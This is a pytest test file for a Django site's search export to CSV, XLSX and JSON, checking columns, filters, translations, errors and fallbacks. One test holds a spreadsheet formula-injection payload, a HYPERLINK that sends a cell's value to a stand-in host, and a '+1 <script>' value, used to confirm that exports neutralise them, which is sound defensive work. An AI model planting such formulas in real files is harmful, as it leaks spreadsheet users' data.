"""All that a search finds, to take away: what stands in each column, and what is refused."""

import pytest
from downloads import csv_rows, data, sheet
from factories.records import (
    CommitmentFactory,
    ElectionFactory,
    InitiativeFactory,
    InstrumentFactory,
    JurisdictionFactory,
    OrganisationFactory,
    ProvisionFactory,
    RecommendationFactory,
    TextPageFactory,
    provided,
    said,
)

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation

from search import service
from search.elasticsearch import client as servers
from search.engines import embedded
from search.results import Everything

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"Law")'


def rows(client, address: str) -> list[dict]:
    return csv_rows(client.get(address))


@pytest.fixture
def law():
    place = JurisdictionFactory(title="Lithuania", code="LT", record_id="lithuania")
    return InstrumentFactory(
        parent=place,
        record_id="lt-law",
        title="Act on deepfakes",
        title_original="Klastočių įstatymas",
        critique="Courts were slow.",
        provisions=[provided(ProvisionFactory(code="ai-labelling")), provided(ProvisionFactory(code="ad-repository"))],
    )


def test_a_law_is_a_row_in_words(client, law):
    (row,) = rows(client, "/search/export.csv?kind=instrument")
    assert row == row | {
        "Id": "lt-law",
        "What": "Instrument",
        "Title": "Act on deepfakes",
        "Title in the original language": "Klastočių įstatymas",
        "Codes of jurisdictions": "LT",
        "Jurisdictions": "Lithuania",
        "Regions": "Europe; Northern Europe",
        "Type": "Statute",
        "Legal force": "Binding",
        "Status": "In force",
        "Provisions": "Ai labelling; Ad repository",
        "Adopted or announced": "2021-05",
        "In force or started": "2022-01-01",
        "Approach or measure": "One regulator.",
        "Summary": "It sets rules.",
        "Critique": "Courts were slow.",
        "Verification": "Sources named, not yet read",
        "Sources": "https://example.org/gazette",
        "Language": "en",
        "Address": f"http://127.0.0.1:8000{law.url}",
        "Report and evidence differ": "",
    }


def test_a_promise_has_both_statuses_apart(client):
    events = [said("reported", "fulfilled", by="The company"), said("assessed", "weakened", "2025-02", by="Editors")]
    CommitmentFactory(parent=OrganisationFactory(title="Company"), status_events=events)
    (row,) = rows(client, "/search/export.csv?kind=commitment")
    assert row == row | {
        "Organisations": "Company",
        "Reported by the organisation": "Fulfilled",
        "Reported on": "2024-05-01",
        "Reported by": "The company",
        "Assessed on the evidence": "Weakened",
        "Assessed on": "2025-02",
        "Assessed by": "Editors",
        "Report and evidence differ": "yes",
    }


def test_every_kind_of_record_has_a_row_in_every_form(client, law):
    ElectionFactory(parent=law.get_parent())
    OrganisationFactory()
    CommitmentFactory()
    InitiativeFactory()
    RecommendationFactory()
    TextPageFactory()
    kinds = {row["What"] for row in rows(client, "/search/export.csv")}
    assert len(kinds) == 8
    lines = sheet(client.get("/search/export.xlsx"))
    assert {row[1] for row in lines.iter_rows(min_row=2, values_only=True)} == kinds
    answer = data(client.get("/search/export.json"))
    assert len({record["kind"] for record in answer["results"]}) == 8


def test_json_has_each_record_as_the_api_gives_it_and_says_what_it_is(client, law):
    answer = data(client.get("/search/export.json?q=deepfakes&page=7"))
    assert (answer["total"], answer["address"]) == (1, "http://127.0.0.1:8000/search/?q=deepfakes")
    assert answer["licence"].startswith("https://creativecommons.org/")
    (record,) = answer["results"]
    whole = client.get("/api/v1/entries/lt-law").json()
    assert record == whole | {"url": f"http://127.0.0.1:8000{law.url}", "language": "en"}


def test_the_file_is_filtered_and_ordered_as_the_page_is(client, law):
    InstrumentFactory(title="A deepfake code", legal_force="voluntary", record_id="code")
    InstrumentFactory(title="Zebra", record_id="zebra")
    for asked in ("q=deepfake", "q=deepfake&force=voluntary", "kind=instrument&sort=title", "jurisdiction=LT"):
        shown = [result.id for result in client.get(f"/search/?{asked}").context["results"].results]
        assert [row["Id"] for row in rows(client, f"/search/export.csv?{asked}")] == shown


def test_the_header_speaks_the_language_of_the_page(client, law, monkeypatch):
    monkeypatch.setattr("search.exports._", lambda text: f"fr:{text}")
    # The language stays with the thread until the next request.
    with translation.override("en"):
        found = rows(client, "/fr/search/export.csv")
    assert [*found[0]][:2] == ["fr:Id", "fr:What"]
    assert "Lituanie" in [row["fr:Jurisdictions"] for row in found]


def test_hostile_titles_run_nowhere(client):
    InstrumentFactory(title=HOSTILE, record_id="hostile", slug="hostile", summary="+1 <script>")
    (row,) = rows(client, "/search/export.csv?kind=instrument")
    assert (row["Title"], row["Summary"]) == (f"'{HOSTILE}", "'+1 <script>")
    title = sheet(client.get("/search/export.xlsx?kind=instrument"))["C2"]
    assert (title.value, title.data_type) == (HOSTILE, "s")
    (record,) = data(client.get("/search/export.json?kind=instrument"))["results"]
    assert record["title"] == HOSTILE


@pytest.mark.parametrize(
    ("asked", "words"),
    [
        ("colour=red", "“colour” is not something that can be filtered by."),
        ("kind=nonsense", "“nonsense” is not a value of “What”."),
        ("year_from=2025&year_to=2020", "The first year lies after the last"),
        ("q=%00", "Some characters could not be read"),
    ],
)
def test_what_cannot_be_understood_gives_no_file_but_words(client, asked, words):
    for form in ("csv", "json", "xlsx"):
        response = client.get(f"/search/export.{form}?{asked}")
        assert response.status_code == 400
        assert words in response.text


def test_there_is_no_other_form(client):
    assert client.get("/search/export.pdf").status_code == 404
    assert client.post("/search/export.csv").status_code == 405


def test_the_head_alone_reads_nothing(client, law):
    with CaptureQueriesContext(connection) as captured:
        response = client.head("/search/export.csv")
    assert (response.status_code, len(captured)) == (200, 0)
    assert "attachment" in response["Content-Disposition"]


def test_the_page_leads_to_the_files_of_what_it_shows(client, law):
    page = client.get("/search/?q=deepfakes&page=1").text
    for form in ("csv", "json", "xlsx"):
        assert f'href="/search/export.{form}?q=deepfakes"' in page
    assert "Download it:" in page
    assert "export.csv" not in client.get("/search/?q=zzzzzz&kind=election").text


def test_more_records_take_more_batches_and_no_more_queries_each(client, law, monkeypatch):
    monkeypatch.setattr(embedded, "BATCH", 2)

    def queries():
        with CaptureQueriesContext(connection) as captured:
            rows(client, "/search/export.csv")
        return len(captured)

    some = queries()
    InstrumentFactory.create_batch(4, parent=law.get_parent())
    assert queries() == some + 2


def test_without_search_servers_the_embedded_engine_writes_the_file(client, law, settings):
    settings.ELASTICSEARCH = settings.ELASTICSEARCH | {"hosts": ["http://127.0.0.1:9"]}
    servers.forget_failures()
    try:
        assert [row["Id"] for row in rows(client, "/search/export.csv?q=deepfakes")] == ["lt-law"]
    finally:
        servers.forget_failures()


def test_a_sheet_for_which_the_servers_give_up_is_refused_in_words(client, law, monkeypatch):
    def batches():
        yield []
        raise servers.UnavailableError("away")

    monkeypatch.setattr(service, "everything", lambda query: Everything(2, "elasticsearch", batches()))
    response = client.get("/search/export.xlsx")
    assert response.status_code == 503
    assert "stopped answering before the file was complete" in response.text
